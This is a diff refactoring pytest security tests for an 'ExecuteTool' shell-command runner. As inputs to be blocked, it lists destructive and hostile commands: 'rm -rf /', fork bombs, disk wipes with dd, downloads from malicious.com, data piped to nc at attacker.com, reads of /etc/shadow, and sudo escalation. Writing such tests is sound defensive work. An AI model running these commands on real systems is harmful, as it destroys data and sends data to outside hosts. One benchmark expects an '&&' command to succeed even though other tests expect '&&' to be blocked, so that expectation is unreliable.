@@ -1,113 +1,122 @@
 """Comprehensive security tests for ExecuteTool - Phase 2."""
 
 import pytest
-import tempfile
 import os
 import time
 import signal
 import subprocess
-from pathlib import Path
+from concurrent.futures import ThreadPoolExecutor
 from unittest.mock import patch, MagicMock
 
-from james_code.tools.execute_tool import ExecuteTool
 from james_code.core.base import ExecutionContext
+from james_code.tools.execute_tool import ExecuteTool
+
+
+HAS_PROC = os.path.isdir('/proc')
+
+
+def _proc_count() -> int:
+    """Count live processes from /proc."""
+    return sum(1 for name in os.listdir('/proc') if name[0] in '0123456789')
+
+
+@pytest.fixture(scope="class")
+def prepared_workspace(tmp_path_factory):
+    """Create one workspace with the test file for a whole test class."""
+    workspace = tmp_path_factory.mktemp("allowed")
+    (workspace / "test.txt").write_text("Hello, World!")
+    return workspace
 
 
 class TestExecuteToolBasicSecurity:
     """Test basic ExecuteTool security validations."""
     
     @pytest.fixture
-    def execute_tool(self):
-        """Create ExecuteTool instance."""
-        return ExecuteTool()
-    
-    @pytest.fixture
-    def temp_workspace(self):
-        """Create temporary workspace."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            yield Path(temp_dir)
-    
-    @pytest.fixture
-    def execution_context(self, temp_workspace):
+    def execution_context(self, tmp_path):
         """Create execution context."""
         return ExecutionContext(
-            working_directory=temp_workspace,
+            working_directory=tmp_path,
             environment={},
             user_id="test_user",
             session_id="test_session"
         )
     
     @pytest.mark.security
-    def test_blocked_commands_basic(self, execute_tool, execution_context):
+    @pytest.mark.parametrize("command", [
+        "rm -rf /",
+        "sudo rm file.txt",
+        "chmod 777 file.txt",
+        "wget http://malicious.com/script.sh",
+        "curl -o malware http://bad.com/file",
+        "python -c 'import os; os.system(\"rm -rf /\")'",
+        "pip install malicious-package",
+        "npm install bad-package",
+        "docker run --privileged ubuntu",
+        "systemctl stop firewall"
+    ])
+    def test_blocked_commands_basic(self, execute_tool, execution_context, command):
         """Test basic blocked commands."""
-        blocked_commands = [
-            "rm -rf /",
-            "sudo rm file.txt",
-            "chmod 777 file.txt",
-            "wget http://malicious.com/script.sh",
-            "curl -o malware http://bad.com/file",
-            "python -c 'import os; os.system(\"rm -rf /\")'",
-            "pip install malicious-package",
-            "npm install bad-package",
-            "docker run --privileged ubuntu",
-            "systemctl stop firewall"
-        ]
+        result = execute_tool.execute(
+            execution_context,
+            command=command
+        )
         
-        for command in blocked_commands:
-            result = execute_tool.execute(
-                execution_context,
-                command=command
-            )
-            
-            assert not result.success, f"Blocked command should fail: {command}"
-            assert "Command blocked for security" in result.error
+        assert not result.success, f"Blocked command should fail: {command}"
+        assert "Command blocked for security" in result.error
     
     @pytest.mark.security
-    def test_command_injection_prevention(self, execute_tool, execution_context):
+    @pytest.mark.parametrize("command", [
+        "echo hello && rm -rf /",
+        "echo hello || malicious_command",
+        "echo hello; rm important_file",
+        "echo hello | nc attacker.com 1234",
+        "echo hello > /etc/passwd",
+        "echo hello >> /etc/hosts",
+        "echo hello < /etc/shadow",
+        "echo $(rm -rf /)",
+        "echo `malicious_command`",
+        "eval 'rm -rf /'",
+        "exec rm -rf /",
+        "source malicious_script.sh",
+        ". malicious_script.sh"
+    ])
+    def test_command_injection_prevention(self, execute_tool, execution_context, command):
         """Test command injection prevention."""
-        injection_attempts = [
-            "echo hello && rm -rf /",
-            "echo hello || malicious_command",
-            "echo hello; rm important_file",
-            "echo hello | nc attacker.com 1234",
-            "echo hello > /etc/passwd",
-            "echo hello >> /etc/hosts",
-            "echo hello < /etc/shadow",
-            "echo $(rm -rf /)",
-            "echo `malicious_command`",
-            "eval 'rm -rf /'",
-            "exec rm -rf /",
-            "source malicious_script.sh",
-            ". malicious_script.sh"
-        ]
+        result = execute_tool.execute(
+            execution_context,
+            command=command
+        )
         
-        for command in injection_attempts:
-            result = execute_tool.execute(
-                execution_context,
-                command=command
-            )
-            
-            assert not result.success, f"Injection attempt should fail: {command}"
-            assert "dangerous pattern" in result.error
+        assert not result.success, f"Injection attempt should fail: {command}"
+        assert "dangerous pattern" in result.error
     
     @pytest.mark.security
-    def test_fork_bomb_prevention(self, execute_tool, execution_context):
+    def test_dangerous_pattern_reported_in_list_order(self, execute_tool, execution_context):
+        """Test that the first listed dangerous pattern is reported, not the leftmost."""
+        result = execute_tool.execute(
+            execution_context,
+            command="echo `whoami` && echo done"
+        )
+        
+        assert not result.success
+        assert result.error == "Command contains dangerous pattern: &&"
+    
+    @pytest.mark.security
+    @pytest.mark.parametrize("command", [
+        ":(){ :|:& };:",
+        ":(){ :|: & };:",
+        "bash -c ':(){ :|:& };:'",
+        "sh -c ':(){ :|:& };:'"
+    ])
+    def test_fork_bomb_prevention(self, execute_tool, execution_context, command):
         """Test fork bomb prevention."""
-        fork_bomb_attempts = [
-            ":(){ :|:& };:",
-            ":(){ :|: & };:",
-            "bash -c ':(){ :|:& };:'",
-            "sh -c ':(){ :|:& };:'"
-        ]
+        result = execute_tool.execute(
+            execution_context,
+            command=command
+        )
         
-        for command in fork_bomb_attempts:
-            result = execute_tool.execute(
-                execution_context,
-                command=command
-            )
-            
-            assert not result.success, f"Fork bomb should be blocked: {command}"
-            assert "dangerous pattern" in result.error
+        assert not result.success, f"Fork bomb should be blocked: {command}"
+        assert "dangerous pattern" in result.error
     
     @pytest.mark.security
     def test_path_traversal_working_directory(self, execute_tool, execution_context):
@@ -134,13 +143,14 @@ class TestExecuteToolBasicSecurity:
                    "Working directory does not exist" in result.error), f"Path should be blocked: {path}"
     
     @pytest.mark.security
+    @pytest.mark.slow
     def test_resource_limits_timeout(self, execute_tool, execution_context):
         """Test timeout enforcement."""
         # Test with a command that would run longer than timeout
         result = execute_tool.execute(
             execution_context,
-            command="sleep 5",  # 5 second sleep
-            timeout=1  # 1 second timeout
+            command="sleep 1",  # 1 second sleep
+            timeout=0.05  # 50ms timeout
         )
         
         assert not result.success
@@ -148,41 +158,38 @@ class TestExecuteToolBasicSecurity:
         assert result.metadata["timed_out"] is True
     
     @pytest.mark.security
-    def test_invalid_timeout_values(self, execute_tool, execution_context):
+    @pytest.mark.parametrize("timeout", [
+        -1,      # Negative
+        0,       # Zero
+        301,     # Above maximum
+        "invalid", # Non-numeric
+        None     # None
+    ])
+    def test_invalid_timeout_values(self, execute_tool, execution_context, timeout):
         """Test invalid timeout values."""
-        invalid_timeouts = [
-            -1,      # Negative
-            0,       # Zero
-            301,     # Above maximum
-            "invalid", # Non-numeric
-            None     # None
-        ]
+        result = execute_tool.execute(
+            execution_context,
+            command="echo test",
+            timeout=timeout
+        )
         
-        for timeout in invalid_timeouts:
-            result = execute_tool.execute(
-                execution_context,
-                command="echo test",
-                timeout=timeout
-            )
-            
-            assert not result.success, f"Invalid timeout should be rejected: {timeout}"
-            assert "Invalid input parameters" in result.error
+        assert not result.success, f"Invalid timeout should be rejected: {timeout}"
+        assert "Invalid input parameters" in result.error
     
     @pytest.mark.security
     def test_output_size_limits(self, execute_tool, execution_context):
         """Test output size limits."""
         # Generate large output (should be truncated)
-        large_output_command = "python3 -c 'print(\"x\" * (2 * 1024 * 1024))'"  # 2MB
+        large_output_command = "head -c 2097152 /dev/zero"  # 2MB
         
         result = execute_tool.execute(
             execution_context,
             command=large_output_command
         )
         
-        # Command might fail if python3 not available, but if it succeeds, output should be truncated
-        if result.success:
-            assert "truncated" in result.data["stdout"]
-            assert len(result.data["stdout"]) <= 1024 * 1024 + 100  # 1MB + truncation message
+        assert result.success
+        assert "truncated" in result.data["stdout"]
+        assert len(result.data["stdout"]) <= 1024 * 1024 + 100  # 1MB + truncation message
     
     @pytest.mark.security
     def test_environment_variable_isolation(self, execute_tool, execution_context):
@@ -216,94 +223,63 @@ class TestExecuteToolAllowedCommands:
     """Test ExecuteTool with allowed commands configuration."""
     
     @pytest.fixture
-    def restricted_execute_tool(self):
-        """Create ExecuteTool with restricted allowed commands."""
-        return ExecuteTool(allowed_commands=["echo", "ls", "cat", "grep"])
-    
-    @pytest.fixture
-    def temp_workspace(self):
-        """Create temporary workspace."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            yield Path(temp_dir)
-    
-    @pytest.fixture
-    def execution_context(self, temp_workspace):
+    def execution_context(self, prepared_workspace):
         """Create execution context."""
         return ExecutionContext(
-            working_directory=temp_workspace,
+            working_directory=prepared_workspace,
             environment={},
             user_id="test_user",
             session_id="test_session"
         )
     
     @pytest.mark.security
-    def test_allowed_commands_only(self, restricted_execute_tool, execution_context):
+    @pytest.mark.parametrize("command,should_succeed", [
+        ("echo hello", True),
+        ("ls", True),
+        ("cat test.txt", True),
+        ("grep Hello test.txt", True)
+    ])
+    def test_allowed_commands_only(self, restricted_execute_tool, execution_context, command, should_succeed):
         """Test that only allowed commands work."""
-        # Create a test file
-        test_file = execution_context.working_directory / "test.txt"
-        test_file.write_text("Hello, World!")
-        
-        # Test allowed commands
-        allowed_tests = [
-            ("echo hello", True),
-            ("ls", True),
-            ("cat test.txt", True),
-            ("grep Hello test.txt", True)
-        ]
+        result = restricted_execute_tool.execute(
+            execution_context,
+            command=command
+        )
         
-        for command, should_succeed in allowed_tests:
-            result = restricted_execute_tool.execute(
-                execution_context,
-                command=command
-            )
-            
-            if should_succeed:
-                assert result.success, f"Allowed command should succeed: {command}"
-            else:
-                assert not result.success, f"Command should be blocked: {command}"
+        if should_succeed:
+            assert result.success, f"Allowed command should succeed: {command}"
+        else:
+            assert not result.success, f"Command should be blocked: {command}"
     
     @pytest.mark.security
-    def test_blocked_commands_with_allowlist(self, restricted_execute_tool, execution_context):
+    @pytest.mark.parametrize("command", [
+        "pwd",
+        "whoami",
+        "uname",
+        "date",
+        "find",
+        "sort",
+        "wc"
+    ])
+    def test_blocked_commands_with_allowlist(self, restricted_execute_tool, execution_context, command):
         """Test that non-allowed commands are blocked."""
-        blocked_commands = [
-            "pwd",
-            "whoami",
-            "uname",
-            "date",
-            "find",
-            "sort",
-            "wc"
-        ]
+        result = restricted_execute_tool.execute(
+            execution_context,
+            command=command
+        )
         
-        for command in blocked_commands:
-            result = restricted_execute_tool.execute(
-                execution_context,
-                command=command
-            )
-            
-            assert not result.success, f"Non-allowed command should be blocked: {command}"
-            assert "Command not in allowed list" in result.error
+        assert not result.success, f"Non-allowed command should be blocked: {command}"
+        assert "Command not in allowed list" in result.error
 
 
 class TestExecuteToolAdvancedSecurity:
     """Test advanced ExecuteTool security scenarios."""
     
     @pytest.fixture
-    def execute_tool(self):
-        """Create ExecuteTool instance."""
-        return ExecuteTool()
-    
-    @pytest.fixture
-    def temp_workspace(self):
-        """Create temporary workspace."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            yield Path(temp_dir)
-    
-    @pytest.fixture
-    def execution_context(self, temp_workspace):
+    def execution_context(self, tmp_path):
         """Create execution context."""
         return ExecutionContext(
-            working_directory=temp_workspace,
+            working_directory=tmp_path,
             environment={},
             user_id="test_user",
             session_id="test_session"
@@ -334,29 +310,34 @@ class TestExecuteToolAdvancedSecurity:
                 pass
     
     @pytest.mark.security
+    @pytest.mark.slow
+    @pytest.mark.skipif(not HAS_PROC, reason="requires /proc")
     def test_process_cleanup_on_timeout(self, execute_tool, execution_context):
         """Test that processes are properly cleaned up on timeout."""
         # This test verifies that timed-out processes don't become zombies
-        initial_process_count = len(list(Path('/proc').glob('[0-9]*'))) if Path('/proc').exists() else 0
+        initial_process_count = _proc_count()
         
         result = execute_tool.execute(
             execution_context,
-            command="sleep 10",  # Long-running command
-            timeout=1  # Short timeout
+            command="sleep 1",  # Long-running command
+            timeout=0.05  # Short timeout
         )
         
         assert not result.success
         assert "timed out" in result.error
         
-        # Give system time to clean up
-        time.sleep(0.5)
+        # Poll briefly for the system to clean up
+        for _ in range(10):
+            final_process_count = _proc_count()
+            if final_process_count - initial_process_count < 5:
+                break
+            time.sleep(0.05)
         
         # Check that process count hasn't significantly increased
-        if Path('/proc').exists():
-            final_process_count = len(list(Path('/proc').glob('[0-9]*')))
-            assert final_process_count - initial_process_count < 5  # Allow some variance
+        assert final_process_count - initial_process_count < 5  # Allow some variance
     
     @pytest.mark.security
+    @pytest.mark.slow
     def test_resource_exhaustion_prevention(self, execute_tool, execution_context):
         """Test prevention of resource exhaustion attacks."""
         resource_attacks = [
@@ -369,7 +350,7 @@ class TestExecuteToolAdvancedSecurity:
             result = execute_tool.execute(
                 execution_context,
                 command=command,
-                timeout=2  # Short timeout to prevent actual exhaustion
+                timeout=0.2  # Short timeout to prevent actual exhaustion
             )
             
             # These should timeout rather than exhaust resources
@@ -377,112 +358,93 @@ class TestExecuteToolAdvancedSecurity:
             assert "timed out" in result.error
     
     @pytest.mark.security
-    def test_shell_escape_prevention(self, execute_tool, execution_context):
+    @pytest.mark.parametrize("command", [
+        "echo 'hello' && /bin/bash",
+        "echo 'hello' || /bin/sh",
+        "echo 'hello'; exec /bin/bash",
+        "echo 'hello' | /bin/sh",
+        "echo 'hello' & /bin/bash"
+    ])
+    def test_shell_escape_prevention(self, execute_tool, execution_context, command):
         """Test prevention of shell escapes."""
-        escape_attempts = [
-            "echo 'hello' && /bin/bash",
-            "echo 'hello' || /bin/sh",
-            "echo 'hello'; exec /bin/bash",
-            "echo 'hello' | /bin/sh",
-            "echo 'hello' & /bin/bash"
-        ]
+        result = execute_tool.execute(
+            execution_context,
+            command=command
+        )
         
-        for command in escape_attempts:
-            result = execute_tool.execute(
-                execution_context,
-                command=command
-            )
-            
-            assert not result.success, f"Shell escape should be blocked: {command}"
-            assert "dangerous pattern" in result.error
+        assert not result.success, f"Shell escape should be blocked: {command}"
+        assert "dangerous pattern" in result.error
     
     @pytest.mark.security
-    def test_privilege_escalation_prevention(self, execute_tool, execution_context):
+    @pytest.mark.parametrize("command", [
+        "sudo -s",
+        "su root",
+        "sudo su",
+        "sudo bash",
+        "pkexec /bin/bash",
+        "sudo -u root bash",
+        "doas sh"
+    ])
+    def test_privilege_escalation_prevention(self, execute_tool, execution_context, command):
         """Test prevention of privilege escalation attempts."""
-        escalation_attempts = [
-            "sudo -s",
-            "su root",
-            "sudo su",
-            "sudo bash",
-            "pkexec /bin/bash",
-            "sudo -u root bash",
-            "doas sh"
-        ]
+        result = execute_tool.execute(
+            execution_context,
+            command=command
+        )
         
-        for command in escalation_attempts:
-            result = execute_tool.execute(
-                execution_context,
-                command=command
-            )
-            
-            assert not result.success, f"Privilege escalation should be blocked: {command}"
-            assert "Command blocked for security" in result.error
+        assert not result.success, f"Privilege escalation should be blocked: {command}"
+        assert "Command blocked for security" in result.error
     
     @pytest.mark.security
-    def test_network_access_prevention(self, execute_tool, execution_context):
+    @pytest.mark.parametrize("command", [
+        "wget http://malicious.com/script.sh",
+        "curl -o malware http://bad.com/file",
+        "nc -l 1234",
+        "netcat attacker.com 4444",
+        "ssh user@remote.com",
+        "scp file user@remote.com:/tmp/",
+        "rsync -av . user@remote.com:/backup/"
+    ])
+    def test_network_access_prevention(self, execute_tool, execution_context, command):
         """Test prevention of network access."""
-        network_attempts = [
-            "wget http://malicious.com/script.sh",
-            "curl -o malware http://bad.com/file",
-            "nc -l 1234",
-            "netcat attacker.com 4444",
-            "ssh user@remote.com",
-            "scp file user@remote.com:/tmp/",
-            "rsync -av . user@remote.com:/backup/"
-        ]
+        result = execute_tool.execute(
+            execution_context,
+            command=command
+        )
         
-        for command in network_attempts:
-            result = execute_tool.execute(
-                execution_context,
-                command=command
-            )
-            
-            assert not result.success, f"Network access should be blocked: {command}"
-            assert "Command blocked for security" in result.error
+        assert not result.success, f"Network access should be blocked: {command}"
+        assert "Command blocked for security" in result.error
     
     @pytest.mark.security
-    def test_file_system_protection(self, execute_tool, execution_context):
+    @pytest.mark.parametrize("command", [
+        "rm -rf /",
+        "rmdir /tmp",
+        "format C:",
+        "fdisk /dev/sda",
+        "mkfs.ext4 /dev/sda1",
+        "dd if=/dev/zero of=/dev/sda",
+        "chmod 000 /etc/passwd",
+        "chown root:root /etc/shadow"
+    ])
+    def test_file_system_protection(self, execute_tool, execution_context, command):
         """Test file system protection."""
-        dangerous_fs_commands = [
-            "rm -rf /",
-            "rmdir /tmp",
-            "format C:",
-            "fdisk /dev/sda",
-            "mkfs.ext4 /dev/sda1",
-            "dd if=/dev/zero of=/dev/sda",
-            "chmod 000 /etc/passwd",
-            "chown root:root /etc/shadow"
-        ]
+        result = execute_tool.execute(
+            execution_context,
+            command=command
+        )
         
-        for command in dangerous_fs_commands:
-            result = execute_tool.execute(
-                execution_context,
-                command=command
-            )
-            
-            assert not result.success, f"Dangerous filesystem command should be blocked: {command}"
-            assert "Command blocked for security" in result.error
+        assert not result.success, f"Dangerous filesystem command should be blocked: {command}"
+        assert "Command blocked for security" in result.error
 
 
 class TestExecuteToolReliability:
     """Test ExecuteTool reliability and error handling."""
     
     @pytest.fixture
-    def execute_tool(self):
-        """Create ExecuteTool instance."""
-        return ExecuteTool()
-    
-    @pytest.fixture
-    def temp_workspace(self):
-        """Create temporary workspace."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            yield Path(temp_dir)
-    
-    @pytest.fixture
-    def execution_context(self, temp_workspace):
-        """Create execution context."""
+    def execution_context(self, class_tmp_path):
+        """Create execution context over a workspace shared by the class."""
         return ExecutionContext(
-            working_directory=temp_workspace,
+            working_directory=class_tmp_path,
             environment={},
             user_id="test_user",
             session_id="test_session"
@@ -511,21 +473,12 @@ class TestExecuteToolReliability:
         assert result.data["return_code"] != 0
         assert "Command failed with return code" in result.error
     
-    def test_empty_command(self, execute_tool, execution_context):
-        """Test handling of empty commands."""
-        result = execute_tool.execute(
-            execution_context,
-            command=""
-        )
-        
-        assert not result.success
-        assert "Invalid input parameters" in result.error
-    
-    def test_command_with_spaces(self, execute_tool, execution_context):
-        """Test handling of commands with spaces."""
+    @pytest.mark.parametrize("command", ["", "   ", "\t", "\n"])
+    def test_blank_command_rejected(self, execute_tool, execution_context, command):
+        """Test handling of empty and whitespace-only commands."""
         result = execute_tool.execute(
             execution_context,
-            command="   "
+            command=command
         )
         
         assert not result.success
@@ -543,55 +496,37 @@ class TestExecuteToolReliability:
         assert not result.success
         assert "Working directory does not exist" in result.error
     
+    @pytest.mark.xdist_group(name="concurrent")
     def test_concurrent_command_execution(self, execute_tool, execution_context):
         """Test concurrent command execution handling."""
-        import threading
-        
-        results = []
-        errors = []
-        
         def execute_command(command_id):
-            try:
-                result = execute_tool.execute(
-                    execution_context,
-                    command=f"echo 'Command {command_id}'"
-                )
-                results.append(result)
-            except Exception as e:
-                errors.append(e)
-        
-        # Create multiple threads
-        threads = []
-        for i in range(5):
-            thread = threading.Thread(target=execute_command, args=(i,))
-            threads.append(thread)
-        
-        # Start all threads
-        for thread in threads:
-            thread.start()
+            return execute_tool.execute(
+                execution_context,
+                command=f"echo 'Command {command_id}'"
+            )
         
-        # Wait for completion
-        for thread in threads:
-            thread.join()
+        # Exceptions raised in workers propagate out of map
+        with ThreadPoolExecutor(max_workers=5) as executor:
+            results = list(executor.map(execute_command, range(5)))
         
         # Verify results
-        assert len(errors) == 0, f"Concurrent execution failed: {errors}"
         assert len(results) == 5
         assert all(result.success for result in results)
+        assert [result.data["stdout"].strip() for result in results] == [f"Command {i}" for i in range(5)]
     
     def test_large_stderr_handling(self, execute_tool, execution_context):
         """Test handling of large stderr output."""
-        # Command that produces large stderr
+        # Command that produces large stderr (2MB, without shell redirection)
         result = execute_tool.execute(
             execution_context,
-            command="python3 -c 'import sys; sys.stderr.write(\"x\" * (2 * 1024 * 1024))'"
+            command="dd if=/dev/zero of=/dev/stderr bs=1024 count=2048"
         )
         
-        # Command might fail if python3 not available, but if it succeeds, stderr should be truncated
-        if result.success or "stderr" in result.data:
-            if result.data and "stderr" in result.data:
-                assert len(result.data["stderr"]) <= 1024 * 1024 + 100  # 1MB + truncation message
+        assert result.success
+        assert "truncated" in result.data["stderr"]
+        assert len(result.data["stderr"]) <= 1024 * 1024 + 100  # 1MB + truncation message
     
+    @pytest.mark.slow
     def test_signal_handling(self, execute_tool, execution_context):
         """Test proper signal handling for process termination."""
         # This test verifies that processes are properly terminated with signals
@@ -599,14 +534,36 @@ class TestExecuteToolReliability:
         # Start a long-running process that should be killed
         result = execute_tool.execute(
             execution_context,
-            command="sleep 5",
-            timeout=1
+            command="sleep 1",
+            timeout=0.05
         )
         
         assert not result.success
         assert "timed out" in result.error
         assert result.metadata["timed_out"] is True
     
+    @pytest.mark.slow
+    @pytest.mark.skipif(os.name == 'nt', reason="requires POSIX signals")
+    @pytest.mark.parametrize("command", [
+        "sleep 5",
+        "trap '' TERM\nsleep 5",  # Ignores SIGTERM, so only SIGKILL stops it
+    ], ids=["honours_sigterm", "ignores_sigterm"])
+    def test_sigkill_escalation(self, execution_context, command):
+        """Test that timed-out processes are killed within the grace window."""
+        execute_tool = ExecuteTool(kill_grace=0.1)
+        
+        start = time.monotonic()
+        result = execute_tool.execute(
+            execution_context,
+            command=command,
+            timeout=0.3
+        )
+        elapsed = time.monotonic() - start
+        
+        assert not result.success
+        assert result.metadata["timed_out"] is True
+        assert elapsed < 2.0
+    
     def test_output_encoding_handling(self, execute_tool, execution_context):
         """Test handling of different output encodings."""
         # Test with unicode output
@@ -625,38 +582,27 @@ class TestExecuteToolPerformance:
     """Test ExecuteTool performance characteristics."""
     
     @pytest.fixture
-    def execute_tool(self):
-        """Create ExecuteTool instance."""
-        return ExecuteTool()
-    
-    @pytest.fixture
-    def temp_workspace(self):
-        """Create temporary workspace."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            yield Path(temp_dir)
-    
-    @pytest.fixture
-    def execution_context(self, temp_workspace):
-        """Create execution context."""
+    def execution_context(self, class_tmp_path):
+        """Create execution context over a workspace shared by the class."""
         return ExecutionContext(
-            working_directory=temp_workspace,
+            working_directory=class_tmp_path,
             environment={},
             user_id="test_user",
             session_id="test_session"
         )
     
     @pytest.mark.performance
-    def test_command_startup_time(self, execute_tool, execution_context, benchmark):
-        """Benchmark command startup time."""
-        def execute_simple_command():
-            return execute_tool.execute(
-                execution_context,
-                command="echo 'hello'"
-            )
-        
-        result = benchmark(execute_simple_command)
+    @pytest.mark.parametrize("command,expected", [
+        ("echo 'hello'", ("hello",)),
+        ("echo 'test output' && echo 'more output'", ("test output", "more output")),
+    ], ids=["startup", "output_processing"])
+    def test_command_execution_benchmark(self, execute_tool, execution_context, benchmark,
+                                         command, expected):
+        """Benchmark single command execution and output processing."""
+        result = benchmark(execute_tool.execute, execution_context, command=command)
         assert result.success
-        assert "hello" in result.data["stdout"]
+        for text in expected:
+            assert text in result.data["stdout"]
     
     @pytest.mark.performance
     def test_multiple_commands_performance(self, execute_tool, execution_context, benchmark):
@@ -674,17 +620,3 @@ class TestExecuteToolPerformance:
         results = benchmark(execute_multiple_commands)
         assert all(result.success for result in results)
         assert len(results) == 10
-    
-    @pytest.mark.performance
-    def test_output_processing_performance(self, execute_tool, execution_context, benchmark):
-        """Benchmark output processing performance."""
-        def execute_command_with_output():
-            return execute_tool.execute(
-                execution_context,
-                command="echo 'test output' && echo 'more output'"
-            )
-        
-        result = benchmark(execute_command_with_output)
-        assert result.success
-        assert "test output" in result.data["stdout"]
-        assert "more output" in result.data["stdout"]
\ No newline at end of file